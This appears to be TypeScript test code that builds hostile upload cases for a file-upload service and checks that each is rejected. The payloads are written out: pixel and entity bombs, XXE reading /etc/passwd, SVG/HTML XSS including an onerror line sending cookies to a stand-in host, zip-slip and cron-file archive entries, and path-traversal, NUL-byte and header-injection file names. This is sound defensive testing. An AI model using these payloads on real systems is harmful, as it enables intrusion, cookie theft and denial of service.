  for (const fileName of ['photo.jpg', 'clip.mp4', 'logo.png', 'IMG_0001'])
    add('zero-byte or near-empty', `zero bytes named ${fileName}`, Buffer.alloc(0), fileName, r.empty);
  add('zero-byte or near-empty', 'one NUL byte', Buffer.alloc(1), 'photo.jpg', r['not accepted']);
  add('zero-byte or near-empty', 'one newline', text('\n'), 'clip.mp4', r['not accepted']);
  add('zero-byte or near-empty', 'a kilobyte of zeros', Buffer.alloc(1024), 'logo.png', r['not accepted']);

  // ---- pixel bombs: small files that would decode to billions of pixels.
  const bomb = (what: string, content: Buffer, fileName = 'logo.png') =>
    add('pixel bomb', what, content, fileName, picture(r['too many pixels']));
  bomb('a PNG of 50,000 × 50,000 in 60 bytes of data', png({ width: 50_000, height: 50_000 }));
  bomb('a PNG of 65,535 × 65,535 RGBA', png({ width: 65_535, height: 65_535, colorType: 6 }));
  bomb('a PNG of 100,000 × 100,000 grey', png({ width: 100_000, height: 100_000, colorType: 0 }));
  // Past what the PNG decoder takes at all (libspng caps a side well below the format's 2^31 − 1): unreadable, not merely large.
  add(
    'pixel bomb',
    'a PNG 2,147,483,647 pixels wide',
    png({ width: 2 ** 31 - 1, height: 1, colorType: 0 }),
    'logo.png',
    picture(r['damaged picture']),
  );
  add(
    'pixel bomb',
    'a PNG 2,147,483,647 pixels tall',
    png({ width: 1, height: 2 ** 31 - 1, colorType: 0 }),
    'logo.png',
    picture(r['damaged picture']),
  );
  bomb('a 16-bit RGBA PNG of 30,000 × 30,000', png({ width: 30_000, height: 30_000, colorType: 6, bitDepth: 16 }));
  bomb('a palette PNG of 20,000 × 20,000', png({ width: 20_000, height: 20_000, colorType: 3, palette: true }));
  bomb('an interlaced PNG of 40,000 × 40,000', png({ width: 40_000, height: 40_000, interlace: 1 }));
  {
    // A real one: 1-bit rows of zeros for 10,500 × 10,000 pixels (105 MP) deflate to a few kilobytes.
    const rowBytes = Math.ceil(10_500 / 8) + 1;
    bomb(
      'a 1-bit PNG of 10,500 × 10,000 whose data really inflates',
      png({ width: 10_500, height: 10_000, colorType: 0, bitDepth: 1, idat: deflateSync(Buffer.alloc(rowBytes * 10_000), { level: 9 }) }),
    );
  }
  // A canvas larger than its frame is not a picture libwebp will open: unreadable rather than large.
  add(
    'pixel bomb',
    'a WebP declaring a 16,384 × 16,384 canvas over a small frame',
    webpWithCanvas(s.webp, 16_384, 16_384),
    'photo.webp',
    picture(r['damaged picture']),
  );
  add('pixel bomb', 'a GIF of 65,535 × 65,535', gifWithSize(65_535, 65_535), 'photo.jpg', r['not accepted']);

  // ---- huge (or impossible) declared dimensions.
  add(
    'huge declared dimensions',
    // 65,500 a side is the most libjpeg opens (JPEG_MAX_DIMENSION); more is refused as unreadable.
    'a JPEG declaring 65,500 × 65,500',
    jpegWithSize(s.jpeg, 65_500, 65_500),
    'photo.jpg',
    picture(r['too many pixels']),
  );
  add(
    'huge declared dimensions',
    'a JPEG declaring 65,535 × 65,535',
    jpegWithSize(s.jpeg, 65_535, 65_535),
    'photo.jpg',
    picture(r['damaged picture']),
  );
  add(
    'huge declared dimensions',
    'a JPEG declaring 40,000 × 40,000',
    jpegWithSize(s.jpeg, 40_000, 40_000),
    'photo.jpg',
    picture(r['too many pixels']),
  );
  add(
    'huge declared dimensions',
    'a progressive JPEG declaring 65,000 × 65,000',
    jpegWithSize(s.progressiveJpeg, 65_000, 65_000),
    'photo.jpg',
    picture(r['too many pixels']),
  );
  add('huge declared dimensions', 'a JPEG declaring 0 × 0', jpegWithSize(s.jpeg, 0, 0), 'photo.jpg', picture(r['damaged picture']));
  add('huge declared dimensions', 'a PNG declaring 0 × 0', png({ width: 0, height: 0 }), 'logo.png', picture(r['damaged picture']));
  add(
    'huge declared dimensions',
    'a PNG declaring a width of 2^31 (over the format’s limit)',
    png({ width: 2 ** 31, height: 1 }),
    'logo.png',
    picture(r['damaged picture']),
  );
  add(
    'huge declared dimensions',
    'a lossy WebP frame declaring 16,383 × 16,383',
    webpFrameSize(s.webp, 16_383, 16_383),
    'photo.webp',
    picture(r['too many pixels']),
  );
  add(
    'huge declared dimensions',
    'an MP4 declaring 65,535 × 65,535',
    mp4WithSize(65_535, 65_535),
    'clip.mp4',
    videoCut(r['video too large']),
  );
  add(
    'huge declared dimensions',
    'an MP4 declaring 20,000 × 20,000',
    mp4WithSize(20_000, 20_000),
    'clip.mp4',
    videoCut(r['video too large']),
  );
  add(
    'huge declared dimensions',
    'a WebM declaring 65,535 × 65,535',
    sampleWebm({ width: 65_535, height: 65_535 }),
    'clip.webm',
    videoCut(r['video too large']),
  );
  add(
    'huge declared dimensions',
    'a WebM declaring 40,000 × 30,000',
    sampleWebm({ width: 40_000, height: 30_000 }),
    'clip.webm',
    videoCut(r['video too large']),
  );
  {
    const mp4 = Buffer.from(s.mp4);
    mp4.writeUInt32BE(0xfffffff0, mp4.indexOf(latin1('mdat')) - 4);
    add('huge declared dimensions', 'an MP4 whose media box claims 4 GB', mp4, 'clip.mp4', videoCut(r['damaged video']));
    const large = Buffer.concat([
      s.mp4.subarray(0, s.mp4.indexOf(latin1('mdat')) - 4),
      u32be(1),
      latin1('mdat'),
      Buffer.from([0x40, 0, 0, 0, 0, 0, 0, 0]),
      Buffer.alloc(64),
    ]);
    add('huge declared dimensions', 'an MP4 whose media box claims 2^62 bytes', large, 'clip.mp4', videoCut(r['damaged video']));
    const webm = Buffer.from(s.webm);
    const segment = webm.indexOf(hex('18538067'));
    webm.writeUIntBE(2 ** 40, segment + 4 + 2, 6);
    add('huge declared dimensions', 'a WebM whose segment claims a terabyte', webm, 'clip.webm', videoCut(r['damaged video']));
  }

  // ---- SVG and HTML with script.
  const markup: [string, Buffer][] = [
    ['an SVG with <script>', text(svgWithScript)],
    ['an SVG with onload=', text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><circle r="40"/></svg>')],
    [
      'an SVG with a foreignObject iframe',
      text(
        '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"></iframe></foreignObject></svg>',
      ),
    ],
    [
      'an SVG with a javascript: link',
      text(
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"><rect width="50" height="50"/></a></svg>',
      ),
    ],
    [
      'an SVG with an animate onbegin',
      text('<svg xmlns="http://www.w3.org/2000/svg"><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>'),
    ],
    [
      'an SVG with an external entity (XXE)',
      text(
        '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
      ),
    ],
    [
      'an XML entity expansion bomb',
      text(
        `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 9 }, (_, i) => `<!ENTITY ${String.fromCharCode(98 + i)} "${`&${String.fromCharCode(97 + i)};`.repeat(10)}">`).join('')}]><svg xmlns="http://www.w3.org/2000/svg"><text>&j;</text></svg>`,
      ),
    ],
    ['a gzipped SVG (svgz) with script', gzipSync(text(svgWithScript))],
    ['an SVG in UTF-16 with script', Buffer.concat([hex('fffe'), Buffer.from(svgWithScript, 'utf16le')])],
    ['an HTML page with script', text(htmlWithScript)],
    ['an HTML page with a byte-order mark', Buffer.concat([hex('efbbbf'), text(htmlWithScript)])],
    ['an HTML image with onerror', text('<img src=x onerror="location=\'//x.invalid/?\'+document.cookie">')],
    [
      'an XHTML page with script',
      text('<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><script>alert(1)</script></body></html>'),
    ],
    ['an HTML page after blank lines and a comment', text(`\n\n   <!-- photo -->\n${htmlWithScript}`)],
    ['a bare <script> fragment', text('<script>alert(document.cookie)</script>')],
    [
      'an MHTML archive with script',
      text(
        'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>\r\n--b--\r\n',
      ),
    ],
    [
      'an XSLT stylesheet with script',
      text(
        '<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><script>alert(1)</script></xsl:template></xsl:stylesheet>',
      ),
    ],
    ['an HTML page in UTF-16', Buffer.concat([hex('fffe'), Buffer.from(htmlWithScript, 'utf16le')])],
  ];
  markup.forEach(([what, content], i) => {
    const fileName = goodNames[i % goodNames.length]!;
    add('SVG or HTML with script', `${what} named ${fileName}`, content, fileName, r['not accepted']);
  });

  // ---- nested archives.
  const inner = zip([{ name: 'photo.jpg', data: s.jpeg }]);
  let deep = inner;
  for (let level = 0; level < 4; level++) deep = zip([{ name: `level-${level}.zip`, data: deep }]);
  const archives: [string, Buffer][] = [
    ['a ZIP holding a photo', inner],
    ['a ZIP inside a ZIP', zip([{ name: 'inner.zip', data: inner }])],
    ['ZIPs nested five deep', deep],
    ['a gzipped tar holding a photo', gzipSync(tar([{ name: 'photo.jpg', data: s.jpeg }]))],
    ['a tar holding a ZIP', tar([{ name: 'inner.zip', data: inner }])],
    ['a tar holding a photo', tar([{ name: 'photo.jpg', data: s.jpeg }])],
    ['a gzip of a gzip', gzipSync(gzipSync(s.jpeg))],
    ['a ZIP whose entry climbs out of the folder (zip slip)', zip([{ name: '../../../../tmp/evil.jpg', data: s.jpeg }])],
    ['a ZIP with an absolute entry path', zip([{ name: '/etc/cron.d/evil', data: text('* * * * * root id\n') }])],
    ['a ZIP of a ZIP of an SVG with script', zip([{ name: 'x.zip', data: zip([{ name: 'x.svg', data: text(svgWithScript) }]) }])],
    ['a ZIP holding 10 MB of zeros deflated', zip([{ name: 'zeros.bin', data: Buffer.alloc(10 * 1024 * 1024), deflate: true }])],
    [
      'a Word document (a ZIP underneath)',
      zip([
        { name: '[Content_Types].xml', data: text('<?xml version="1.0"?><Types/>') },
        { name: 'word/document.xml', data: text('<w:document/>') },
      ]),
    ],
    ['a JAR', jar],
  ];
  archives.forEach(([what, content], i) => {
    const fileName = goodNames[i % goodNames.length]!;
    add('nested archive', `${what} named ${fileName}`, content, fileName, r['not accepted']);
  });

  // ---- hostile file names on this route's valid file: the name alone is wrong.
  const names: [string, string, HostileCase['nameEncoding']][] = [
    ['a relative path up two folders', '../../etc/passwd.jpg', 'browser'],
    ['a Windows relative path', '..\\..\\Windows\\System32\\photo.jpg', 'browser'],
    ['a Windows drive path', 'C:\\x\\y.jpg', 'browser'],
    ['an absolute path', '/abs/path.png', 'browser'],
    ['a UNC share path', '\\\\fileserver\\share\\photo.jpg', 'browser'],
    ['a folder and a name', 'camera/photo.jpg', 'browser'],
    ['a name starting with ./', './photo.jpg', 'browser'],
    ['a name that is ..', '..', 'browser'],
    ['a name that is .', '.', 'browser'],
    ['a home-folder path', '~/.ssh/authorized_keys', 'browser'],
    ['a file: URL', 'file:///etc/passwd.jpg', 'browser'],
    ['a path sent as an RFC 8187 extended name', '../../etc/passwd.jpg', 'extended'],
    ['a name ending in a slash', 'photo.jpg/', 'browser'],
    ['a path climbing a hundred folders', `${'../'.repeat(100)}photo.jpg`, 'browser'],
    ['percent-encoded slashes', '..%2F..%2Fetc%2Fpasswd.jpg', 'browser'],
    ['a percent-encoded backslash', '..%5c..%5cboot.ini.jpg', 'browser'],
    ['full-width slashes', '..\uff0f..\uff0fetc\uff0fpasswd.jpg', 'browser'],
    ['a division slash', '..\u2215etc\u2215passwd.jpg', 'browser'],
    ['a NUL byte before a second extension', 'photo.jpg\u0000.php', 'raw'],
    ['an encoded NUL byte', 'photo.jpg\u0000.html', 'extended'],
    ['a percent-encoded NUL byte', 'photo.jpg%00.php', 'browser'],
    ['a carriage return and line feed', 'photo\r\n.jpg', 'browser'],
    ['a header injected after CR LF', 'photo.jpg\r\nContent-Type: text/html', 'browser'],
    ['a right-to-left override', 'photo\u202egnp.exe', 'raw'],
    ['a right-to-left override, RFC 8187', 'invoice\u202efdp.jpg', 'extended'],
    ['a right-to-left isolate', 'photo\u2067gpj.exe', 'raw'],
    ['a right-to-left mark', '\u200fphoto.jpg', 'raw'],
    ['a bell character', 'photo\u0007.jpg', 'raw'],
    ['an ANSI escape sequence', '\u001b[31mred\u001b[0m.jpg', 'raw'],
    ['a tab', 'photo\t.jpg', 'raw'],
    ['a DEL character', 'photo\u007f.jpg', 'raw'],
    ['a C1 control (NEL)', 'photo\u0085.jpg', 'extended'],
    ['a line separator', 'photo\u2028.jpg', 'raw'],
    ['a 256-character name', `${'a'.repeat(252)}.jpg`, 'browser'],
    ['a 1,000-character name', `${'b'.repeat(996)}.jpg`, 'browser'],
    ['an 8,000-character name', `${'c'.repeat(7996)}.jpg`, 'browser'],
    ['a name of 200 emoji', `${'\u{1f4f7}'.repeat(200)}.jpg`, 'browser'],
  ];
  for (const [what, fileName, nameEncoding] of names) {
    add('hostile file name', what, valid.content, fileName, r['unsafe name'], { nameEncoding, partType: guessType(valid.name) });
  }

  // ---- uploads cut off mid-stream: the valid file, cut.
  const cutOff = (what: string, delivery: Delivery) => add('cut off mid-stream', what, validBig, valid.name, r.incomplete, { delivery });
  const inFile = (f: number) => (q: UploadRequest) => q.fileStart + Math.floor((q.fileEnd - q.fileStart) * f);
  cutOff('body ends inside the part headers', { kind: 'ends-early', at: (q) => Math.floor(q.fileStart / 2) });
  cutOff('body ends right after the part headers', { kind: 'ends-early', at: (q) => q.fileStart });
  cutOff('body ends a tenth into the file', { kind: 'ends-early', at: inFile(0.1) });
  cutOff('body ends half way through the file', { kind: 'ends-early', at: inFile(0.5) });
  cutOff('body ends nine tenths into the file', { kind: 'ends-early', at: inFile(0.9) });
  cutOff('body ends after the file, before the closing boundary', { kind: 'ends-early', at: (q) => q.fileEnd });
  cutOff('body ends inside the closing boundary', { kind: 'ends-early', at: (q) => q.fileEnd + 6 });
  cutOff('connection dropped inside the part headers', { kind: 'dropped', at: (q) => Math.floor(q.fileStart / 2) });
  cutOff('connection dropped right after the part headers', { kind: 'dropped', at: (q) => q.fileStart });
  cutOff('connection dropped a tenth into the file', { kind: 'dropped', at: inFile(0.1) });
  cutOff('connection dropped half way through the file', { kind: 'dropped', at: inFile(0.5) });
  cutOff('connection dropped before the closing boundary', { kind: 'dropped', at: (q) => q.fileEnd });

  // ---- forms that are not one well-made file part.
  const form = (what: string, shape: FormShape, expected: Expected) =>
    add('broken form', what, valid.content, valid.name, expected, { form: shape, partType: guessType(valid.name) });
  form('no boundary parameter', 'no boundary parameter', r['bad form']);
  form('a boundary that never appears in the body', 'boundary not in the body', r.incomplete);
  form('the bare file with its own content type, not a form', 'not multipart', r['no file']);
  form('multipart/mixed instead of form-data', 'multipart/mixed', r['bad form']);
  form('the file in another field', 'file in another field', r['bad form']);
  form('two files', 'two files', r['bad form']);
  form('a part without a name', 'part without a name', r['bad form']);

  // ---- over the size limit (the route's valid file padded past TEST_UPLOAD_LIMIT_BYTES).
  const padded = Buffer.concat([valid.content, Buffer.alloc(TEST_UPLOAD_LIMIT_BYTES + 1024 - valid.content.length, 0x20)]);
  add('over the size limit', 'a valid file padded past the limit', padded, valid.name, r['too large']);
  add(
    'over the size limit',
    'a pixel bomb padded past the limit',
    Buffer.concat([png({ width: 50_000, height: 50_000 }), Buffer.alloc(TEST_UPLOAD_LIMIT_BYTES + 10)]),
    'logo.png',
    r['too large'],
  );

  const seen = new Set<string>();
  for (const c of cases) {
    if (seen.has(c.name)) throw new Error(`duplicate case name: ${c.name}`);
    seen.add(c.name);
  }
  return cases;
}

// ---------------------------------------------------------------- the request

export interface UploadRequest {
  contentType: string;
  body: Buffer;
  /** Where the file's bytes start and end in the body. */
  fileStart: number;
  fileEnd: number;
}

/** RFC 8187 ext-value: UTF-8, every byte outside attr-char percent-encoded. */
const extendedValue = (name: string) =>
  `UTF-8''${[...Buffer.from(name, 'utf8')].map((b) => (/[A-Za-z0-9!#$&+\-.^_`|~]/.test(String.fromCharCode(b)) ? String.fromCharCode(b) : `%${b.toString(16).toUpperCase().padStart(2, '0')}`)).join('')}`;

function filenameParameter(c: HostileCase): Buffer {
  switch (c.nameEncoding) {
    case 'browser':
      // WHATWG multipart/form-data: LF, CR and " become %0A, %0D, %22; other bytes go as UTF-8.
      return text(`filename="${c.fileName.replace(/\n/g, '%0A').replace(/\r/g, '%0D').replace(/"/g, '%22')}"`);
    case 'raw':
      return text(`filename="${c.fileName}"`);
    case 'extended':
      return text(`filename*=${extendedValue(c.fileName)}`);
  }
}

/** The bytes and content type for a case on a route. */
export function buildRequest(c: HostileCase, route: UploadRoute): UploadRequest {
  const boundary = '----underfoot-hostile-7d1c2b';
  const field = c.form === 'file in another field' ? 'attachment' : fieldOf[route];
  const nameParam = c.form === 'part without a name' ? '' : `; name="${field}"`;
  const head = Buffer.concat([
    text(`--${boundary}\r\nContent-Disposition: form-data${nameParam}; `),
    filenameParameter(c),
    text(`\r\nContent-Type: ${c.partType}\r\n\r\n`),
  ]);
  const tail = text(`\r\n--${boundary}--\r\n`);
  if (c.form === 'not multipart') return { contentType: c.partType, body: c.content, fileStart: 0, fileEnd: c.content.length };
  const second =
    c.form === 'two files'
      ? Buffer.concat([
          text(
            `\r\n--${boundary}\r\nContent-Disposition: form-data; name="${field}"; filename="second.bin"\r\nContent-Type: application/octet-stream\r\n\r\n`,
          ),
          c.content,
        ])
      : Buffer.alloc(0);
  const body = Buffer.concat([head, c.content, second, tail]);
  const contentType =
    {
      'no boundary parameter': 'multipart/form-data',
      'boundary not in the body': 'multipart/form-data; boundary=some-other-boundary',
      'multipart/mixed': `multipart/mixed; boundary=${boundary}`,
    }[c.form as string] ?? `multipart/form-data; boundary=${boundary}`;
  return { contentType, body, fileStart: head.length, fileEnd: head.length + c.content.length };
}
